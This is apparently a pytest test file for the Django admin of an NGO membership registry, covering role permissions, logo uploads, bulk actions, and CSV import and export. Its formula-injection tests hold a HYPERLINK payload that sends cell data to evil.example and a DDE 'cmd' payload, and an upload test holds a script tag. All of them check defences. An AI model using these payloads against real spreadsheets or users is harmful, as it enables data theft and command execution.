import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from icnk.roles import ADMINISTRATORS, EDITORS
from members.models import Listing, MemberStatus, Organization
from tests.factories import bulk_organizations, login_with_two_factor
from tests.factories import login_with_two_factor as login_administrator

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:members_organization_changelist"


def staff(username, group):
    user = User.objects.create_user(username, password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def editor_client(client):
    login_with_two_factor(client, staff("editor", EDITORS))
    return client


@pytest.fixture
def admin_client_(client):
    login_administrator(client, staff("chief", ADMINISTRATORS))
    return client


def form_data(**changes):
    data = {
        "name": "Han Voice",
        "slug": "han-voice",
        "country": "CA",
        "kind": "national_ngo",
        "member_since": "2013-01-28",
        "status": "active",
        "listing": "named",
    }
    data.update(changes)
    return data


def png(size=(1200, 800)):
    out = io.BytesIO()
    Image.new("RGB", size, "#123456").save(out, "PNG")
    return SimpleUploadedFile("logo.png", out.getvalue(), content_type="image/png")


def test_an_editor_adds_and_changes_but_cannot_delete(editor_client, organization):
    response = editor_client.post(reverse("admin:members_organization_add"), form_data())
    assert response.status_code == 302
    assert Organization.objects.filter(slug="han-voice").exists()

    change = reverse("admin:members_organization_change", args=[organization.pk])
    renamed = form_data(name="Open North Korea!", slug=organization.slug)
    response = editor_client.post(change, renamed)
    assert response.status_code == 302
    organization.refresh_from_db()
    assert organization.name == "Open North Korea!"

    # A slug that is the members' area's address would give the page to the area: refused.
    area = editor_client.post(change, form_data(name="Open North Korea!", slug="area"))
    assert area.status_code == 200
    assert "“area” is taken by another page of the site; choose another slug." in area.text
    organization.refresh_from_db()
    assert organization.slug != "area"

    delete = reverse("admin:members_organization_delete", args=[organization.pk])
    assert editor_client.post(delete, {"post": "yes"}).status_code == 403
    assert Organization.objects.filter(pk=organization.pk).exists()
    assert "delete_selected" not in editor_client.get(reverse(CHANGELIST)).text


def test_an_administrator_can_delete(admin_client_, organization):
    delete = reverse("admin:members_organization_delete", args=[organization.pk])
    assert admin_client_.post(delete, {"post": "yes"}).status_code == 302
    assert not Organization.objects.filter(pk=organization.pk).exists()


def test_an_uploaded_logo_is_re_encoded_and_shrunk(editor_client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    response = editor_client.post(reverse("admin:members_organization_add"), form_data(logo=png()))
    assert response.status_code == 302
    organization = Organization.objects.get(slug="han-voice")
    assert not organization.logo.name.endswith("logo.png")  # no uploader's file name kept
    with Image.open(organization.logo.path) as stored:
        assert max(stored.size) == 600


def test_a_file_that_is_not_an_image_is_refused_with_a_message(editor_client):
    fake = SimpleUploadedFile("logo.png", b"<script>alert(1)</script>", content_type="image/png")
    response = editor_client.post(reverse("admin:members_organization_add"), form_data(logo=fake))
    assert response.status_code == 200
    assert "logo" in response.context["adminform"].form.errors
    assert not Organization.objects.filter(slug="han-voice").exists()


def test_bulk_actions_change_listing_and_status(editor_client, organization, japanese_organization):
    url = reverse(CHANGELIST)
    ids = [organization.pk, japanese_organization.pk]
    editor_client.post(url, {"action": "count_only", "_selected_action": ids})
    assert set(Organization.objects.values_list("listing", flat=True)) == {Listing.COUNTED}
    editor_client.post(url, {"action": "unlist", "_selected_action": ids})
    assert set(Organization.objects.values_list("listing", flat=True)) == {Listing.UNLISTED}
    editor_client.post(url, {"action": "list_by_name", "_selected_action": ids})
    assert set(Organization.objects.values_list("listing", flat=True)) == {Listing.NAMED}
    editor_client.post(url, {"action": "mark_as_left", "_selected_action": [organization.pk]})
    organization.refresh_from_db()
    assert organization.status == MemberStatus.LEFT
    assert organization.left_on is not None


def test_changelist_shows_active_members_by_default(editor_client, organization):
    Organization.objects.create(name="Departed Group", status=MemberStatus.LEFT)
    html = editor_client.get(reverse(CHANGELIST)).text
    assert "Open North Korea" in html
    assert "Departed Group" not in html
    assert "Departed Group" in editor_client.get(reverse(CHANGELIST), {"status": "all"}).text


def test_changelist_search_covers_local_name_and_acronym(editor_client, organization):
    Organization.objects.create(name="Human Rights Watch", acronym="HRW")
    assert "Open North Korea" in editor_client.get(reverse(CHANGELIST), {"q": "열린"}).text
    assert "Human Rights Watch" in editor_client.get(reverse(CHANGELIST), {"q": "hrw"}).text


@pytest.mark.parametrize("size", [10, 1000])
@pytest.mark.parametrize(
    "url", [CHANGELIST, "admin:members_supporter_changelist", "admin:members_organization_export"]
)
def test_changelists_keep_their_query_count(
    editor_client, django_assert_max_num_queries, size, url
):
    bulk_organizations(size)
    # The first admin request of a session records the sign-in times and the two-factor rule.
    editor_client.get(reverse("admin:index"))
    # Measured 13 on the organizations changelist (session, user, permissions, two counts, the
    # page, the country and date filters, ...), fewer on the others; the same at both sizes.
    with django_assert_max_num_queries(13):
        assert editor_client.get(reverse(url)).status_code == 200


CSV_HEADER = "slug,name,country,kind,member_since,status,listing\n"


def import_csv(client, text):
    upload = SimpleUploadedFile("members.csv", text.encode(), content_type="text/csv")
    return client.post(
        reverse("admin:members_organization_import"),
        {"import_file": upload, "format": "0", "resource": "0"},
    )


def test_import_dry_run_with_one_bad_row_names_it_and_changes_nothing(editor_client, organization):
    before = list(Organization.objects.values_list("slug", "name", "country"))
    response = import_csv(
        editor_client,
        CSV_HEADER
        + "open-north-korea,Open North Korea (renamed),KR,national_ngo,2011-10-03,active,named\n"
        + "new-group,New Group,XX,national_ngo,2013-01-28,active,named\n"
        + "another-group,Another Group,JP,not_a_kind,2013-01-28,active,named\n"
        + "fine-group,Fine Group,JP,legal,2013-01-28,active,named\n",
    )
    assert response.status_code == 200
    assert "Some rows failed to validate" in response.text
    result = response.context["result"]
    bad = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert set(bad) == {2, 3}
    assert "country" in bad[2] and "kind" in bad[3]
    assert 'name="confirm"' not in response.text and "Confirm import" not in response.text
    assert list(Organization.objects.values_list("slug", "name", "country")) == before


def test_a_good_import_is_previewed_then_confirmed(editor_client):
    response = import_csv(
        editor_client, CSV_HEADER + "fine-group,Fine Group,jp,legal,2013-01-28,active,named\n"
    )
    assert "Confirm import" in response.text
    assert not Organization.objects.exists()  # the dry run wrote nothing
    form = response.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    confirm = editor_client.post(reverse("admin:members_organization_process_import"), data)
    assert confirm.status_code == 302
    imported = Organization.objects.get(slug="fine-group")
    assert imported.country == "JP" and imported.region == "asia"


def test_export_offers_csv_and_xlsx(editor_client, organization):
    response = editor_client.get(reverse("admin:members_organization_export"))
    choices = response.context["form"].fields["format"].choices
    formats = [label for value, label in choices if value != ""]
    assert formats == ["csv", "xlsx"]


def export_csv(client):
    """Export every organization as CSV through the admin's export page, all columns ticked."""
    form = client.get(reverse("admin:members_organization_export")).context["form"]
    data = {"format": "0", "resource": "0"}
    data.update({name: "on" for name in form.fields if name not in data and name != "export_items"})
    response = client.post(reverse("admin:members_organization_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content.decode("utf-8-sig")


def test_export_never_writes_a_live_formula(admin_client_, organization):
    import csv

    organization.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    organization.local_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    organization.contact_name = "+1-2"
    organization.save()
    rows = list(csv.DictReader(io.StringIO(export_csv(admin_client_))))
    row = next(row for row in rows if row["slug"] == organization.slug)
    assert row["name"] == "'" + organization.name
    assert row["local_name"] == "'" + organization.local_name
    assert row["contact_name"] == "'+1-2"


def test_contact_details_are_exported_only_to_the_personal_data_permission(
    client, organization, caplog
):
    import logging

    organization.contact_email = "private@example.org"
    organization.save()
    login_with_two_factor(client, staff("editor", EDITORS))
    with caplog.at_level(logging.INFO, logger="icnk.security"):
        exported = export_csv(client)
    assert organization.name in exported
    assert "private@example.org" not in exported and "contact_email" not in exported
    assert "bulk export: user=" in caplog.text and "rows=1 contact_fields=False" in caplog.text

    caplog.clear()
    login_administrator(client, staff("chief", ADMINISTRATORS))
    with caplog.at_level(logging.INFO, logger="icnk.security"):
        assert "private@example.org" in export_csv(client)
    assert "rows=1 contact_fields=True" in caplog.text


def test_an_import_preview_shows_contact_details_only_to_the_personal_data_permission(
    client, organization
):
    """A file of slugs alone matches every organization: its preview lists each one's columns
    as stored, which for an editor must be the export's columns, without the contact."""
    private = {
        "contact_name": "Park Ji-hyun",
        "contact_email": "private@example.org",
        "contact_phone": "+82 2 555 0199",
        "private_notes": "Met in Geneva; prefers Signal.",
    }
    Organization.objects.filter(pk=organization.pk).update(**private)
    login_with_two_factor(client, staff("editor", EDITORS))
    preview = import_csv(client, f"slug\n{organization.slug}\n")
    assert preview.status_code == 200 and organization.name in preview.text
    for name, value in private.items():
        assert value not in preview.text and name not in preview.text, name

    login_administrator(client, staff("chief", ADMINISTRATORS))
    preview = import_csv(client, f"slug\n{organization.slug}\n")
    assert all(value in preview.text for value in private.values())


def test_an_import_refuses_a_name_that_starts_like_a_formula(editor_client):
    response = import_csv(
        editor_client,
        CSV_HEADER
        + 'evil,"=HYPERLINK(""http://evil.example"")",JP,legal,2013-01-28,active,named\n',
    )
    assert "Some rows failed to validate" in response.text
    assert "cannot start with =, +, - or @" in response.text
    assert not Organization.objects.exists()


def test_an_exported_file_imports_back_unchanged(admin_client_, organization):
    organization.private_notes = "-- met in Geneva"
    organization.save()
    exported = export_csv(admin_client_)
    assert "'-- met in Geneva" in exported
    response = import_csv(admin_client_, exported)
    assert "Some rows failed" not in response.text
    form = response.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    admin_client_.post(reverse("admin:members_organization_process_import"), data)
    organization.refresh_from_db()
    assert organization.private_notes == "-- met in Geneva"
